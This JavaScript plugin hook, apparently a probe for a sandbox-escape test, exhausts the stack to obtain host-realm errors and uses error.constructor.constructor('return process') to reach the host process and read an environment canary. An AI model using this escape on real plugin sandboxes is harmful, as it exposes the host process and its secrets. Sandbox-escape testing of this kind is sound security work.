// With no stack left, the border between the worlds throws errors of the other side.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const kept = [];
    const dive = (then) => {
      try {
        dive(then);
      } catch {
        try {
          then();
        } catch (error) {
          kept[kept.length] = error;
        }
      }
    };
    for (const act of [
      () => ctx.log.info('x'),
      () => ctx.storage.get('k'),
      () => setTimeout(() => {}, 1),
      () => require('nothing'),
      () => new URL('http://a/'),
    ])
      dive(act);
    for (const error of kept.slice(0, 2000)) look(error);
    return { metadata: verdict() };
  },
};
